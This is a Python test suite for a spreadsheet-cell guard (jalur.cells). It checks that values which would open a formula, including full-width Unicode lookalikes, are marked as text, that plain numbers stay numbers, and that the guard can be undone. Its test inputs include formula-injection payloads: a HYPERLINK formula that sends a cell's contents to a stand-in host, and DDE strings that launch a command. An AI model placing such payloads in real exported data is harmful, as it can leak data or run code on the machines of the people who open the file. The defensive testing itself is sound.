"""Text cells made inert for a spreadsheet (`jalur.cells`): a value that opens a formula gets
the spreadsheet's text mark `'`, a plain number stays a number, and the guard undoes exactly."""

from __future__ import annotations

import re
import sys
import unicodedata

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from jalur.cells import (
    FORMULA_STARTS,
    LOOKALIKES,
    MARK,
    guard_cell,
    guard_column,
    guard_table,
    needs_guard,
    unguard_cell,
)

#: Texts built to start the way formulas and guarded values start, and any text at all.
_HEADS = st.sampled_from(
    ["", "'", "''", *FORMULA_STARTS, *LOOKALIKES, "'=", "'\uff1d", "-1", "+62", "1e", "\uff0d1"]
)
TEXTS = st.one_of(st.text(), st.builds(str.__add__, _HEADS, st.text()))

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_marked_as_text(payload: str) -> None:
    assert guard_cell(payload) == MARK + payload


@pytest.mark.parametrize(
    "payload",
    ["\uff1dHYPERLINK(\"http://x/?\"&A1)", "\uff0b1+cmd|' /C calc'!A0", "\uff0d2+3",
     "\uff20SUM(1+1)", "\ufe66cmd|' /C calc'!A0", "\u2212" + "1+1", "\uff0d62"],
)  # fmt: skip
def test_a_formula_in_a_form_the_spreadsheet_normalises_is_marked(payload: str) -> None:
    """Excel reads a full-width `＝` (typed by a Japanese or Chinese input method) as `=`."""
    assert guard_cell(payload) == MARK + payload and unguard_cell(MARK + payload) == payload


def test_every_character_whose_nfkc_form_opens_a_formula_is_a_lookalike() -> None:
    """The list is checked against this Python's Unicode: a new compatibility form fails here."""
    found = {
        ch for ch in map(chr, range(sys.maxunicode + 1))
        if unicodedata.normalize("NFKC", ch)[:1] in set(FORMULA_STARTS) and ch not in FORMULA_STARTS
    }  # fmt: skip
    assert found <= set(LOOKALIKES), sorted(found - set(LOOKALIKES))


@given(TEXTS)
def test_any_text_whose_nfkc_form_opens_a_formula_is_guarded(value: str) -> None:
    """Unless it is a plain ASCII number, which the spreadsheet reads as that number."""
    opens = unicodedata.normalize("NFKC", value)[:1] in set(FORMULA_STARTS)
    if opens and not _is_number(value):
        assert guard_cell(value) == MARK + value
    assert unguard_cell(guard_cell(value)) == value


def _is_number(value: str) -> bool:
    """A decimal number as a spreadsheet reads one: ASCII digits, sign, point, exponent."""
    if re.fullmatch(r"[0-9.eE+-]+", value) is None:
        return False
    try:
        float(value)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("number", ["-12.5", "+62", "-3", "+1e-3", "-.5", "7"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert guard_cell(number) == number


@pytest.mark.parametrize("text", ["Abu Bakar Ba'asyir", "'Ali", "", "1 + 1", "C-1"])
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert guard_cell(text) == text


def test_a_value_already_marked_is_marked_again_so_the_guard_undoes() -> None:
    assert guard_cell("'=x") == "''=x" and unguard_cell("''=x") == "'=x"
    assert unguard_cell("'=x") == "=x" and unguard_cell("'Ali") == "'Ali"


@given(TEXTS)
def test_guarded_text_never_opens_a_formula(value: str) -> None:
    guarded = guard_cell(value)
    if guarded.startswith(tuple(FORMULA_STARTS)):  # only a plain number may start so
        assert not needs_guard(guarded) and float(guarded) == float(value)


@given(TEXTS)
def test_unguard_undoes_guard(value: str) -> None:
    assert unguard_cell(guard_cell(value)) == value


@given(TEXTS)
def test_unguard_leaves_any_text_the_guard_does_not_mark(value: str) -> None:
    if guard_cell(value) == value:
        assert unguard_cell(value) == value


@given(st.lists(st.one_of(st.none(), TEXTS), max_size=30))
def test_the_column_form_guards_each_cell_as_the_cell_form_does(values: list[str | None]) -> None:
    column = pa.array(values, pa.string())
    expected = [None if v is None else guard_cell(v) for v in values]
    assert guard_column(column).to_pylist() == expected
    assert guard_column(pa.chunked_array([column, column])).to_pylist() == expected * 2


def test_a_table_has_its_text_columns_guarded_and_its_numbers_kept() -> None:
    table = pa.table({"account": ["=1+1", "A"], "score": [-1.5, 2.0], "flag": [True, False]})
    guarded = guard_table(table)
    assert guarded.schema == table.schema
    assert guarded.to_pydict() == {
        "account": ["'=1+1", "A"], "score": [-1.5, 2.0], "flag": [True, False]
    }  # fmt: skip
